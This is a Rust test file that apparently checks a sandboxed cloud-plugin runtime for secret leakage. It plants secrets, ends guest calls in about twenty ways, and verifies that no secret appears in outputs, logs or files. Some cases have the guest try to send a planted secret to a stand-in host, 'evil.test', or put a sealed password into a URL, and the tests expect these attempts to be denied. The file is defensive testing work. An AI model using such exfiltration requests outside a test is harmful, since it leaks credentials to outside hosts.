//! All the ways in which a call can end, each with a secret in every field: none
//! of them is in any output, file, or in the guest's memory, and each arrived
//! where it belongs.

use super::garden::seed;
use super::scene::{CLOUDS, Scene, Search};
use crate::case::Case;
use crate::world::World;
use rustix::process::Signal;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::path::Path;
use tests::{Job, Response, dist};

const CLASS: &str = "secrets";

/// How a call ends, after the guest has used all there is to use.
struct Ending {
    name: &'static str,
    holes: &'static [&'static str],
    /// Laid over the config, key by key; and over what servers answer.
    config: Value,
    serve: Value,
    /// In place of `BASE` stands the number of the first one.
    operations: Value,
    /// What the error says; empty for a success.
    says: &'static [&'static str],
    signal: Option<&'static str>,
    search: Search,
}

impl Default for Ending {
    fn default() -> Self {
        Ending {
            name: "",
            holes: &[],
            config: json!({}),
            serve: json!({}),
            operations: json!([]),
            says: &[],
            signal: None,
            search: Search::Plain,
        }
    }
}

pub(super) fn cases() -> Vec<Case> {
    let endings = endings().into_iter().enumerate().map(|(turn, ending)| {
        Case::new(CLASS, ending.name, ending.holes, move |world| {
            ending.attempt(world, turn).map_err(|why| format!("ATTACK_SEED={}: {why}", seed()))
        })
        .speaking_to(CLOUDS)
    });
    endings.collect()
}

fn endings() -> Vec<Ending> {
    let get = |url: &str| json!({"op": "http", "url": url});
    let told = json!({"op": "error", "kind": "cloud", "message": "{{BASE|json}}"});
    vec![
        Ending {
            name: "planted everywhere, then a success",
            holes: &["sealed-properties", "sealed-env", "sealed-agent"],
            operations: json!([{"op": "result", "json": "vm-2"}]),
            search: Search::All,
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then an error that quotes all it saw",
            operations: json!([{"op": "error", "kind": "cloud", "message": "{{0.ok|json}} {{5.ok|base64}} {{6.ok|json}} {{7.ok|json}} {{18.ok|json}}"}]),
            says: &["<sealed:auth.password>"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then a denial",
            operations: json!([get("https://evil.test/?q={{5.ok}}"), told]),
            says: &["no grant names the host evil.test"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then a seal in the wrong place",
            operations: json!([get("https://open.iaas.test/?q={{props.auth.password}}"), told]),
            says: &["the sealed value `auth.password` stands in the URL"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then a trap",
            operations: json!([{"op": "trap"}]),
            says: &["guest: trapped in create_vm"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then a panic that quotes all it saw",
            operations: json!([{"op": "panic", "message": "{{0.ok|json}} {{7.ok|json}}"}]),
            says: &["guest: "],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then an exit",
            operations: json!([{"op": "exit", "code": 0}]),
            says: &["called exit"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then too much recursion",
            operations: json!([{"op": "recurse", "frames": "small"}]),
            says: &["`stack_kib`"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then no more time",
            config: json!({"limits": {"wall_seconds": 6, "cleanup_seconds": 5}}),
            search: Search::Nothing,
            operations: json!([{"op": "clock.sleep", "ms": 60_000, "on_cancel": [{"op": "log", "message": "{{0.ok|json}}"}, {"op": "http", "method": "POST", "url": "https://open.iaas.test/undo"}]}]),
            says: &["`wall_seconds`", "the guest ended in time"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then no more time for a guest that does not listen",
            config: json!({"limits": {"wall_seconds": 6, "cleanup_seconds": 1}}),
            search: Search::Nothing,
            operations: json!([{"op": "wasi.sleep", "ms": 60_000}]),
            says: &["`wall_seconds`", "did not end by itself"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then no more computing",
            config: json!({"limits": {"cpu_seconds": 2, "cleanup_seconds": 1}}),
            search: Search::Nothing,
            operations: json!([{"op": "loop"}]),
            says: &["`cpu_seconds`"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then no more memory",
            config: json!({"limits": {"memory_mib": 16}}),
            operations: json!([{"op": "grow", "mib": 64}, told]),
            says: &["`memory_mib`"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then an answer that is none",
            serve: json!({"open.iaas.test": {"raw": "nonsense"}}),
            operations: json!([get("https://open.iaas.test/"), told]),
            says: &["protocol"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then an answer that is cut short",
            serve: json!({"api.iaas.test/v1/cut": {"raw": "HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\nhalf"}}),
            operations: json!([get("https://api.iaas.test/v1/cut"), told]),
            says: &["truncated"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then a server that echoes a credential",
            serve: json!({"basic.iaas.test/echo": {"echo": true}}),
            operations: json!([get("https://basic.iaas.test/echo"), told]),
            says: &["it holds the secret `basic."],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then servers that echo agent settings and a token",
            serve: json!({"api.iaas.test/v1/echo": {"echo": true}}),
            operations: json!([get("https://api.iaas.test/v1/echo"), get("https://api.iaas.test/v1/echo"), {"op": "result", "json": "vm-2"}]),
            says: &["policy: 2 answers held secrets (last `token of login main`)"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then a token that is taken no longer",
            serve: json!({"form.iaas.test/401": {"status": 401, "echo": true}, "oauth.iaas.test": ["as before", {"status": 403, "echo": true}]}),
            operations: json!([get("https://form.iaas.test/401"), told]),
            says: &["login `form`", "HTTP 403"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then lines of JSON on stderr",
            config: json!({"log": {"level": "debug", "format": "json"}}),
            operations: json!([{"op": "log", "level": "error", "message": "{{0.ok|json}}\n{{7.ok|json}}\u{1b}[2J"}, {"op": "trap"}]),
            says: &["guest: trapped"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then a trace of HTTP with bodies",
            config: json!({"http_trace": "bodies"}),
            operations: json!([{"op": "result", "json": "vm-2"}]),
            search: Search::All,
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then the Director's signal to end",
            operations: json!([{"op": "log", "message": "waiting"}, {"op": "clock.sleep", "ms": 60_000, "on_cancel": [{"op": "log", "message": "{{0.ok|json}}"}]}]),
            signal: Some("info: waiting"),
            says: &["SIGTERM"],
            ..Ending::default()
        },
        Ending {
            name: "planted everywhere, then an answer that is garbage",
            operations: json!([{"op": "garbage", "kind": "bad-json"}]),
            says: &["guest: "],
            ..Ending::default()
        },
    ]
}

impl Ending {
    fn attempt(&self, world: &World, turn: usize) -> Result<(), String> {
        let mut scene = Scene::new(world, turn);
        scene.search = self.search;
        overlay(&mut scene.served, &self.serve);
        scene.job = std::mem::take(&mut scene.job).configure(|config| overlay(config, &self.config));
        scene.set(world)?;
        let mut operations = scene.visits();
        let base = operations.len().to_string();
        let more = self.operations.to_string().replace("BASE", &base);
        operations.extend(serde_json::from_str::<Vec<Value>>(&more).map_err(|error| error.to_string())?);
        let mut call = scene.create_vm(&operations);
        if let Some(line) = self.signal {
            call = call.signal_at(line, Signal::TERM);
        }
        let response = call.run();
        self.ended(&response)?;
        clean(&scene, &response)?;
        scene.held(&response.stderr)?;
        // The trace shows what the host sent, and so it is redacted.
        let seen: Vec<&str> = response.stderr.lines().filter(|line| !line.contains(" http_trace trace: ")).collect();
        let told = format!("{}{}", response.json, seen.join("\n"));
        if told.contains("<redacted>") {
            return Err(format!("the guest knows what it should not: {told}"));
        }
        // Whatever came later, all of it had arrived before.
        let arrived = scene.arrived(world)?;
        for (host, names) in arrived.iter().filter(|(host, _)| !host.starts_with("api")) {
            same(host, names, &scene.belonging(host))?;
        }
        let api = arrived.get("api.iaas.test").cloned().unwrap_or_default();
        let without_registry = |name: &String| !name.starts_with("registry.");
        same("api", &api, &scene.belonging("api.iaas.test").into_iter().filter(without_registry).collect())?;
        slots(&scene, world)
    }

    fn ended(&self, response: &Response) -> Result<(), String> {
        let message = response.json["error"]["message"].as_str().unwrap_or_default();
        if self.says.is_empty() != response.json["error"].is_null() {
            return Err(format!("ended in another way: {}", response.json));
        }
        match self.says.iter().find(|part| !message.contains(*part)) {
            Some(part) => Err(format!("no `{part}` in {message}")),
            None => Ok(()),
        }
    }
}

/// Values in slots arrived as they are, and as one value.
fn slots(scene: &Scene, world: &World) -> Result<(), String> {
    let secret =
        |name: &str| scene.garden.planted().iter().find(|(known, _)| known == name).map(|(_, secret)| secret.clone());
    for arrived in world.arrived() {
        let Some(kind) = arrived.request.target().strip_prefix("/v1/slot/") else { continue };
        let (text, secret) = (arrived.request.text(), secret(&format!("slots.{kind}")).unwrap_or_default());
        let expected = match kind {
            "json" => json!({"data": secret}).to_string(),
            "form" => format!("a=b&data={}", urlencoded(&secret)),
            "xml" => format!("<r><data>{}</data></r>", escaped(&secret)),
            _ => format!("--X\r\nContent-Disposition: form-data; name=\"data\"\r\n\r\n{secret}\r\n--X--\r\n"),
        };
        if text != expected {
            return Err(format!("the slot of kind {kind} holds {text:?} instead of {expected:?}"));
        }
    }
    Ok(())
}

fn urlencoded(text: &str) -> String {
    let encode = |byte: u8| match byte {
        b' ' => "+".to_owned(),
        byte if byte.is_ascii_alphanumeric() || b"*-._".contains(&byte) => char::from(byte).to_string(),
        byte => format!("%{byte:02X}"),
    };
    text.bytes().map(encode).collect()
}

fn escaped(text: &str) -> String {
    let entities = [('&', "&amp;"), ('<', "&lt;"), ('>', "&gt;"), ('"', "&quot;"), ('\'', "&apos;")];
    entities.iter().fold(text.to_owned(), |text, (c, entity)| text.replace(*c, entity))
}

/// No output, and no file that a call could have written, holds a secret.
pub(super) fn clean(scene: &Scene, response: &Response) -> Result<(), String> {
    scene.garden.is_not_in("the response", response.json.to_string().as_bytes())?;
    scene.garden.is_not_in("stderr", response.stderr.as_bytes())?;
    files(scene, &scene.job)
}

/// All that the call can have written. What many share is looked at where it is new.
fn files(scene: &Scene, job: &Job) -> Result<(), String> {
    let changed = |path: &Path| std::fs::metadata(path).and_then(|metadata| metadata.modified()).ok();
    let begun = changed(&job.config_file());
    let mut waiting = vec![job.path(""), dist::shared_cache().to_owned()];
    let own: [&Path; 2] = [&job.config_file(), &job.policy_file()];
    while let Some(path) = waiting.pop() {
        if path.is_dir() {
            waiting.extend(std::fs::read_dir(&path).into_iter().flatten().flatten().map(|entry| entry.path()));
        } else if !own.contains(&path.as_path()) && (!path.starts_with(dist::shared_cache()) || changed(&path) >= begun)
        {
            let bytes = std::fs::read(&path).map_err(|error| format!("{}: {error}", path.display()))?;
            scene.garden.is_not_in(&path.display().to_string(), &bytes)?;
        }
    }
    Ok(())
}

fn same(host: &str, names: &BTreeSet<String>, expected: &BTreeSet<String>) -> Result<(), String> {
    if names == expected { Ok(()) } else { Err(format!("{host} got {names:?} instead of {expected:?}")) }
}

/// In a list, `as before` is what stood there.
pub(super) fn overlay(target: &mut Value, keys: &Value) {
    for (key, value) in keys.as_object().into_iter().flatten() {
        let before = target[key].take();
        let again = |one: &Value| if one == "as before" { before.clone() } else { one.clone() };
        target[key] = value.as_array().map_or_else(|| value.clone(), |list| list.iter().map(again).collect());
    }
}
